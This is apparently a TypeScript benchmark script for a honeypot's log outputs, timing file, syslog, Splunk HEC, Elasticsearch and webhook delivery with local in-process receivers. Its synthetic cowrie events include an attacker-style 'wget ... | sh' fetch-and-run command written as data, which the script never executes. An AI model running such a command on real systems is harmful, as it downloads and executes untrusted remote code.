// Outputs: cost per record of each format and output, and whether every output keeps up at the
// fleet ingest rate.
//
//  1. Format cost: committed cowrie-shaped events (login, command, connect, download mix) through
//     createOutputs() with one output at a time; prints CPU µs per record (normalise + filter +
//     format + one write or backlog append per batch) for each format into a file and for each
//     network output type into its durable backlog.
//  2. Sustained: all outputs at once (file × 4 formats, syslog TCP, Splunk HEC, _bulk, webhook)
//     fed in batches every 10 ms at --rate events/s (default 30 000) for --seconds; receivers are
//     in-process sinks on 127.0.0.1 (so their CPU is counted too). Prints records/s delivered per
//     output, backlog at the end and its peak, lag, CPU µs per event in total, event-loop delay p99.
//
//   node --import tsx bench/outputs.ts [--rate 30000] [--seconds 10] [--records 100000] [--only file-cef,syslog]
//   (--only: the outputs of part 2, by name: file-json, file-raw_json, file-splunk, file-cef, syslog, hec, bulk, webhook)
import { execSync } from 'node:child_process';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { parseArgs } from 'node:util';
import type { FastifyBaseLogger } from 'fastify';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { normaliseEvent } from '../src/analytics/index.js';
import { createOutputs, parseOutputs, type OutputEvent, type Outputs } from '../src/outputs/index.js';
import { tempDir } from '../test/helpers/tmp.js';

const { values: args } = parseArgs({
  options: {
    rate: { type: 'string', default: '30000' },
    seconds: { type: 'string', default: '10' },
    records: { type: 'string', default: '100000' },
    only: { type: 'string', default: '' },
  },
});
const RATE = Number(args.rate);
const SECONDS = Number(args.seconds);
const RECORDS = Number(args.records);
const ONLY = new Set(args.only.split(',').filter(Boolean));
const logger = pino({ level: 'silent' }) as unknown as FastifyBaseLogger;
const load = () => execSync('uptime').toString().trim().replace(/^.*load average/, 'load average');
const tmp = tempDir('apiary-bench-outputs-');

let id = 1;
function event(i: number): OutputEvent {
  const kind = i % 4;
  const ip = `203.0.${(i >> 8) & 255}.${i & 255}`;
  const base = { session: `s${i >> 4}`, src_ip: ip, src_port: 30000 + (i % 30000), dst_ip: '10.0.0.1', dst_port: 22, protocol: 'ssh' };
  const [eventType, data] =
    kind === 0
      ? ['cowrie.login.failed', { ...base, eventid: 'cowrie.login.failed', username: 'root', password: `pw${i}` }]
      : kind === 1
        ? ['cowrie.command.input', { ...base, eventid: 'cowrie.command.input', input: `wget http://198.51.100.9/x${i}.sh -O- | sh` }]
        : kind === 2
          ? ['cowrie.session.connect', { ...base, eventid: 'cowrie.session.connect' }]
          : ['cowrie.session.file_download', { ...base, eventid: 'cowrie.session.file_download', url: `http://198.51.100.9/x${i}`, shasum: 'ab'.repeat(32) }];
  return { id: id++, node: `node-${i % 50}`, potId: 'cowrie-1', potType: 'cowrie', eventType: eventType as string, timestamp: Date.now(), data, dataJson: JSON.stringify(data) };
}

// Sinks: a TCP syslog receiver counting octet-counted frames, and one HTTP server for HEC, _bulk and webhooks.
const received = new Map<string, number>();
const count = (k: string, n: number) => received.set(k, (received.get(k) ?? 0) + n);
const tcp = createTcpServer((s) => {
  let buf: Buffer = Buffer.alloc(0);
  s.on('data', (d: Buffer) => {
    buf = buf.length ? Buffer.concat([buf, d]) : d;
    let n = 0;
    for (;;) {
      const sp = buf.indexOf(0x20);
      if (sp < 0) break;
      const len = Number(buf.subarray(0, sp).toString('latin1'));
      if (buf.length < sp + 1 + len) break;
      buf = buf.subarray(sp + 1 + len);
      n++;
    }
    count('syslog', n);
  });
});
const http = createHttpServer((req, res) => {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    const body = Buffer.concat(chunks);
    if (req.url === '/_bulk') {
      let lines = 0;
      for (let i = body.indexOf(10); i >= 0; i = body.indexOf(10, i + 1)) lines++;
      const items = Array.from({ length: lines / 2 }, () => '{"create":{"status":201}}');
      count('bulk', lines / 2);
      res.writeHead(200, { 'content-type': 'application/json' }).end(`{"took":1,"errors":false,"items":[${items.join(',')}]}`);
    } else if (req.url === '/services/collector/event') {
      let n = 0;
      for (let i = body.indexOf('{"time":'); i >= 0; i = body.indexOf('{"time":', i + 1)) n++;
      count('hec', n);
      res.writeHead(200).end('{"text":"Success","code":0}');
    } else {
      let n = 0;
      for (let i = body.indexOf(10); i >= 0; i = body.indexOf(10, i + 1)) n++;
      count('webhook', n);
      res.writeHead(204).end();
    }
  });
});
await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
const tcpPort = (tcp.address() as { port: number }).port;
const httpUrl = `http://127.0.0.1:${(http.address() as { port: number }).port}`;

const network = {
  syslog: { name: 'syslog', type: 'syslog', transport: 'tcp', host: '127.0.0.1', port: tcpPort, format: 'cef' },
  hec: { name: 'hec', type: 'splunk_hec', url: httpUrl, token: 'bench', format: 'json' },
  bulk: { name: 'bulk', type: 'elasticsearch', url: httpUrl, index: 'apiary', format: 'json' },
  webhook: { name: 'webhook', type: 'webhook', url: `${httpUrl}/hook`, format: 'splunk' },
};
const files = (dir: string) => ['json', 'raw_json', 'splunk', 'cef'].map((f) => ({ name: `file-${f}`, type: 'file', path: join(dir, `out.${f}`), format: f }));

function make(cfg: unknown[], dir: string, registry = new Registry()): Outputs {
  return createOutputs({ outputs: parseOutputs(JSON.stringify(cfg), 'bench'), dataDir: dir, registry, logger, normalise: normaliseEvent, cef: { vendor: 'Apiary', product: 'Apiary', version: '0.1.0' } });
}

console.log(`outputs bench (${load()})`);
console.log('\n1. CPU per record into one output (batches of 300; network outputs: format + backlog append only)');
const events = Array.from({ length: RECORDS }, (_, i) => event(i));
let run = 0;
// Network outputs point at a closed port with a long back-off: only the hot path (normalise, filter,
// format, backlog append) is timed, not delivery.
const single = [
  ...files(tmp.path).map((c) => ({ ...c, path: join(tmp.path, `single-${c.name}`) })),
  { ...network.syslog, port: 9 },
  { ...network.hec, url: 'http://127.0.0.1:9' },
  { ...network.bulk, url: 'http://127.0.0.1:9' },
  { ...network.webhook, url: 'http://127.0.0.1:9/hook' },
];
for (const cfg of single) {
  const withRetry = cfg.type === 'file' ? cfg : { ...cfg, retry: { initialMs: 60_000, maxMs: 60_000 } };
  const outputs = make([withRetry], join(tmp.path, `single-${run++}`));
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  for (let i = 0; i < events.length; i += 300) outputs.handle(events.slice(i, i + 300));
  const cpu = process.cpuUsage(cpu0);
  const ms = performance.now() - t0;
  const label = `${cfg.name} (${cfg.format})`;
  console.log(`  ${label.padEnd(24)} ${((cpu.user + cpu.system) / events.length).toFixed(2).padStart(6)} µs/record  ${Math.round(events.length / (ms / 1000)).toLocaleString('en').padStart(10)} records/s`);
  await outputs.close();
}

console.log(`\n2. ${ONLY.size ? [...ONLY].join(', ') : `All ${4 + Object.keys(network).length} outputs`} at ${RATE.toLocaleString('en')} events/s for ${SECONDS} s (batches every 10 ms; sinks in this process)`);
const registry = new Registry();
const all = make([...files(join(tmp.path, 'sustained')), ...Object.values(network)].filter((c) => ONLY.size === 0 || ONLY.has(c.name)).map((c) => (c.type === 'file' ? { ...c, path: join(tmp.path, `sustained-${c.name}`) } : c)), join(tmp.path, 'sustained'), registry);
const loop = monitorEventLoopDelay({ resolution: 10 });
loop.enable();
const perTick = Math.round(RATE / 100);
let sent = 0;
const peak = new Map<string, number>();
const cpu0 = process.cpuUsage();
const start = performance.now();
await new Promise<void>((resolve) => {
  const timer = setInterval(() => {
    const due = Math.min(Math.round(((performance.now() - start) / 1000) * RATE), RATE * SECONDS);
    const batch: OutputEvent[] = [];
    while (sent < due && batch.length < perTick * 5) batch.push(event(sent++));
    if (batch.length) all.handle(batch);
    for (const n of all.names) peak.set(n, Math.max(peak.get(n) ?? 0, all.backlog(n)));
    if (sent >= RATE * SECONDS) {
      clearInterval(timer);
      resolve();
    }
  }, 10);
});
const feedMs = performance.now() - start;
// Let the network outputs drain what is left.
const drainStart = performance.now();
while (all.names.some((n) => all.backlog(n) > 0) && performance.now() - drainStart < 60_000) await new Promise((r) => setTimeout(r, 50));
const totalMs = performance.now() - start;
const cpu = process.cpuUsage(cpu0);
loop.disable();
const metric = async (name: string, output: string) => (await registry.getSingleMetric(name)!.get()).values.find((v) => v.labels.output === output)?.value ?? 0;
console.log(`  fed ${sent.toLocaleString('en')} events in ${(feedMs / 1000).toFixed(1)} s (${Math.round(sent / (feedMs / 1000)).toLocaleString('en')}/s); drained ${((totalMs - feedMs) / 1000).toFixed(1)} s after`);
for (const n of all.names) {
  const delivered = n.startsWith('file-') ? await metric('apiary_output_sent_total', n) : (received.get(n) ?? 0);
  console.log(
    `  ${n.padEnd(14)} ${Math.round(delivered / (totalMs / 1000)).toLocaleString('en').padStart(8)} records/s delivered  backlog end ${String(all.backlog(n)).padStart(6)}  peak ${String(peak.get(n) ?? 0).padStart(6)}  dropped ${await metric('apiary_output_dropped_total', n)}`,
  );
}
console.log(`  CPU ${((cpu.user + cpu.system) / sent).toFixed(1)} µs per event for all outputs together (sinks included); event-loop delay p99 ${(loop.percentile(99) / 1e6).toFixed(1)} ms, max ${(loop.max / 1e6).toFixed(1)} ms`);
await all.close();
tcp.close();
http.close();
tmp.cleanup();
console.log(`(${load()})`);
